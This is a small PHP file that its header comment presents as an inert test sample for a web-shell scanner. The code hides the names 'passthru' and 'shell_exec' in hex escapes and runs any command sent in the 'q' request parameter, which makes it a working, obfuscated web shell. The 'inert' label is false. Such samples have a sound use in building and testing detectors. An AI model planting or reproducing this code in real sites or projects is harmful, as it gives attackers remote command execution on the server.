<?php
// Inert test sample (webhunt): process functions listed as hex escapes, the first that exists
// picked at run time and called in the branch that names it (also in hex) with the request's line.
$pool = array_filter(array("\x70\x61\x73\x73\x74\x68\x72\x75", "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63"), 'function_exists');
$h = reset($pool);
$q = isset($_REQUEST['q']) ? $_REQUEST['q'] : 'id';
if ($h == "\x70\x61\x73\x73\x74\x68\x72\x75") {
    $h($q);
} elseif ($h == "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63") {
    echo $h($q);
}
